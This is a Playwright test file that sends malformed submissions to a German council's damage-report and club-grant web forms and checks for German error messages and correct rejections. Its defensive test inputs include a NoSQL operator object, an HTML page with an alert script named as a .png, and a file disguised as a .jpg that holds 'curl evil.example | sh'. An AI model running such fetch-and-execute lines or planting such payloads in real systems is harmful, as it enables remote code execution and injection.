import { expect, test, type APIRequestContext } from '@playwright/test';
import { PDF, photoWithGps, solve } from '../support/form-files';
import { openMailbox, type Mailbox } from '../support/mailbox';

let mailbox: Mailbox;
test.beforeAll(async () => {
  mailbox = await openMailbox();
});
test.afterAll(async () => {
  await mailbox.close();
});

/** A fresh captcha question of a form, answered. */
async function solvedCaptcha(request: APIRequestContext, form: string) {
  const answer = await request.get(`/_forms/${form}`);
  const { data } = (await answer.json()) as { data: { captcha: { question: string; token: string } } };
  return { captcha: solve(data.captcha.question), captchaToken: data.captcha.token };
}

const FORMS = {
  schadensmeldung: {
    page: '/schaden-melden',
    valid: {
      art: 'strasse',
      beschreibung: 'Tiefes Schlagloch auf der rechten Fahrspur.',
      adresse: 'Hauptstraße 12',
      standort: '',
      name: '',
      email: '',
      telefon: '',
      datenschutz: true,
      firma: '',
    },
    fileField: 'fotos',
    special: [
      ['neither address nor point', { adresse: '' }],
      ['address and point', { standort: '48.05, 8.21' }],
      ['a point off the globe', { adresse: '', standort: '91.5, 8.2' }],
      ['a point in words', { adresse: '', standort: 'beim Rathaus' }],
      ['an unknown kind of damage', { art: 'ufo' }],
    ] as [string, Record<string, unknown>][],
  },
  vereinspauschale: {
    page: '/vereinspauschale',
    valid: {
      verein: 'Schachclub Musterstadt e. V.',
      zweck: 'jugend',
      begruendung: 'Wir haben 23 Mitglieder unter 18 Jahren.',
      name: 'Petra Schwarz',
      funktion: 'Kassenwartin',
      email: 'kasse@example.org',
      telefon: '',
      kontoinhaber: 'Schachclub Musterstadt e. V.',
      iban: 'DE89 3704 0044 0532 0130 00',
      datenschutz: true,
      firma: '',
    },
    fileField: 'nachweis',
    special: [
      ['an IBAN with wrong check digits', { iban: 'DE89 3704 0044 0532 0130 01' }],
      ['an IBAN of an unknown country', { iban: 'XX89 3704 0044 0532 0130 00' }],
      ['an IBAN of letters', { iban: 'keine Ahnung' }],
      ['an unknown purpose', { zweck: 'urlaub' }],
      ['no e-mail address', { email: '' }],
    ] as [string, Record<string, unknown>][],
  },
} as const;

const WRONG_TYPES: unknown[] = [42, { $gt: '' }, ['a', 'b'], null];

function jsonCases(form: keyof typeof FORMS): [string, Record<string, unknown> | string, string?][] {
  const { valid, special } = FORMS[form];
  const list: [string, Record<string, unknown> | string, string?][] = [];
  for (const field of Object.keys(valid).filter((name) => name !== 'firma')) {
    const { [field]: _omitted, ...rest } = valid as Record<string, unknown>;
    // The damage report's contact fields and its point are optional; every other field left out is an error.
    if (form === 'vereinspauschale' ? field !== 'telefon' : ['art', 'beschreibung', 'adresse', 'datenschutz'].includes(field))
      list.push([`without ${field}`, rest]);
    for (const wrong of WRONG_TYPES)
      if (!(wrong === null && ['standort', 'name', 'email', 'telefon'].includes(field)))
        list.push([`${field} as ${JSON.stringify(wrong)}`, { ...valid, [field]: wrong }]);
    if (field !== 'datenschutz') list.push([`${field} of 25000 characters`, { ...valid, [field]: 'x'.repeat(25_000) }]);
  }
  list.push(
    ...special,
    ['no consent', { ...valid, datenschutz: false }],
    ['an unknown field', { ...valid, admin: true }],
    ['the honeypot filled', { ...valid, firma: 'Spam GmbH' }],
    ['a NUL in a text', { ...valid, beschreibung: 'Loch\u0000Loch', begruendung: 'Liste\u0000Liste' }],
    ['a wrong captcha answer', { ...valid }, 'wrong-captcha'],
    ['a forged captcha token', { ...valid, captcha: '2', captchaToken: 'AAAA.9999999999999.BBBB' }],
    ['broken JSON', '{"art": '],
    ['a list', '[1,2]'],
  );
  return list;
}

test('malformed damage reports and flat-rate requests, as JSON and as multipart posts with files, get German 4xx, no 5xx, and nothing is stored or mailed', async ({
  request,
}) => {
  const before = mailbox.messages.length;
  const statuses: number[] = [];
  let count = 0;
  for (const form of Object.keys(FORMS) as (keyof typeof FORMS)[]) {
    for (const [name, body, special] of jsonCases(form)) {
      let payload: string;
      if (typeof body === 'string') payload = body;
      else {
        const solved = await solvedCaptcha(request, form);
        payload = JSON.stringify({ ...solved, ...body, ...(special === 'wrong-captcha' ? { captcha: String(Number(solved.captcha) + 1) } : {}) });
      }
      // The damage report's JSON path with a valid body would be a real report: every case here is malformed.
      const answer = await request.post(`/_forms/${form}`, { headers: { 'content-type': 'application/json' }, data: payload });
      statuses.push(answer.status());
      count += 1;
      expect(answer.status(), `${form}: ${name}`).toBeGreaterThanOrEqual(400);
      expect(answer.status(), `${form}: ${name}`).toBeLessThan(500);
      const { message } = (await answer.json()) as { message?: string };
      expect(message, `${form}: ${name}`).toMatch(/^(Bitte|Die|Das|Dieses|Leider|Formulare|Sie) /);
    }

    // Without JavaScript: multipart posts to the form's page, with files over the limits.
    const { page, valid, fileField } = FORMS[form];
    const photo = await photoWithGps();
    const fileCases: [string, { name: string; mimeType: string; buffer: Buffer }[], number][] = [
      ['a file of 11 MB', [{ name: 'gross.jpg', mimeType: 'image/jpeg', buffer: Buffer.concat([photo, Buffer.alloc(11 * 1024 * 1024)]) }], 413],
      ['a script renamed to .jpg', [{ name: 'bild.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }], 415],
      ['an HTML page named .png', [{ name: 'bild.png', mimeType: 'image/png', buffer: Buffer.from('<html><script>alert(1)</script></html>') }], 415],
      ['a broken JPEG', [{ name: 'kaputt.jpg', mimeType: 'image/jpeg', buffer: photo.subarray(0, 100) }], 415],
      ['four files', Array.from({ length: 4 }, (_, n) => ({ name: `${n}.jpg`, mimeType: 'image/jpeg', buffer: photo })), 413],
      ['eleven files', Array.from({ length: 11 }, (_, n) => ({ name: `${n}.pdf`, mimeType: 'application/pdf', buffer: PDF })), 413],
    ];
    for (const [name, files, status] of fileCases) {
      const body = new FormData();
      body.append('_form', form);
      for (const [key, value] of Object.entries({ ...valid, ...(await solvedCaptcha(request, form)) })) body.append(key, String(value));
      for (const file of files) body.append(fileField, new Blob([new Uint8Array(file.buffer)], { type: file.mimeType }), file.name);
      const answer = await request.post(page, { multipart: body });
      statuses.push(answer.status());
      count += 1;
      // A damage report takes three photos; the proof is one file: four files are too many for both.
      expect(answer.status(), `${form}: ${name}`).toBe(status);
      const html = await answer.text();
      expect(html, `${form}: ${name}`).toMatch(/Bitte prüfen Sie Ihre Angaben|zu umfangreich|höchstens/);
      expect(html).toMatch(/Die Datei „|Bitte wählen Sie höchstens|Bitte senden Sie höchstens/);
    }
    // A file in a field the form does not have.
    const stray = new FormData();
    stray.append('_form', form);
    for (const [key, value] of Object.entries({ ...valid, ...(await solvedCaptcha(request, form)) })) stray.append(key, String(value));
    stray.append('anhang', new Blob([new Uint8Array(PDF)], { type: 'application/pdf' }), 'a.pdf');
    const strayAnswer = await request.post(page, { multipart: stray });
    statuses.push(strayAnswer.status());
    count += 1;
    expect(strayAnswer.status()).toBe(400);
  }
  expect(count).toBeGreaterThanOrEqual(100);
  expect(statuses.filter((status) => status >= 500)).toEqual([]);
  // A valid report afterwards: its office mail is the only new one (no address, so no confirmation).
  const ok = await request.post('/_forms/schadensmeldung', {
    headers: { 'content-type': 'application/json' },
    data: JSON.stringify({
      ...FORMS.schadensmeldung.valid,
      beschreibung: 'Kontrollmeldung: Gullydeckel klappert.',
      ...(await solvedCaptcha(request, 'schadensmeldung')),
    }),
  });
  expect(ok.status()).toBe(200);
  await expect.poll(() => mailbox.messages.length - before).toBe(1);
  expect(mailbox.messages[before]!.raw).toContain('Kontrollmeldung');
});
